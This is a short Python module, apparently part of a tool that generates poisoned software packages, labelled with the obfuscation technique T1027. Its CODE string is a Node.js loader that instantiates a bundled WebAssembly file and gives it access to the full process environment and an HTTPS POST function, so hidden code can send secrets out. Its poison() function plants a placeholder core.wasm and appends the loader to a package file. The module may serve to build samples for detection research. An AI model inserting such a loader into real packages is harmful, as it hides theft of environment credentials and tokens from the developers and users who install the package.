# SPDX-License-Identifier: Apache-2.0
"""WebAssembly that is given a way out and the environment."""

ATTACK = "T1027"
LANGUAGE = "node"
CODE = """\
;(() => {
  const fs = require('fs'), path = require('path'), https = require('https');
  const code = fs.readFileSync(path.join(__dirname, '..', 'lib', 'core.wasm'));
  const imports = { env: { get: () => JSON.stringify(process.env), send: (h, b) => https.request(h, { method: 'POST' }).end(b) } };
  WebAssembly.instantiate(code, imports).then((m) => m.instance.exports.run(), () => {});
})();
"""


def poison(layer):
    layer.inside("lib/core.wasm", b"\0asm\1\0\0\0" + bytes(64))
    layer.append(CODE)
